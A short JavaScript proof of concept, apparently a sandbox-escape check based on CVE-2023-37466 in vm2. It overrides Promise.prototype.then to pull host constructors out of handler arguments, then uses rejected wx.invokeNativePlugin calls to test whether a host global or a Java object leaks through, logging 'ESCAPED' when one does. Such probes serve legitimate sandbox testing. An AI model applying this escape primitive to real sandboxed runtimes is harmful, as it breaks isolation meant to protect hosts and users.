// Replaces Promise.prototype.then, and takes the host's own functions from its arguments
// Source: CVE-2023-37466 (vm2: promise handler sanitization)
const then = Promise.prototype.then;
Promise.prototype.then = function (...all) {
  for (const each of all) {
    try {
      if (each && each.constructor.constructor('return this')() !== globalThis) console.log('ESCAPED: another global object');
    } catch (e) {}
  }
  return Reflect.apply(then, this, all);
};
wx.invokeNativePlugin({ api_name: 'echo' }).catch(() => {});
(async () => { await wx.invokeNativePlugin({ api_name: 'fails' }); })().catch((e) => {
  if (e && e.getClass) console.log('ESCAPED: an object of Java');
});
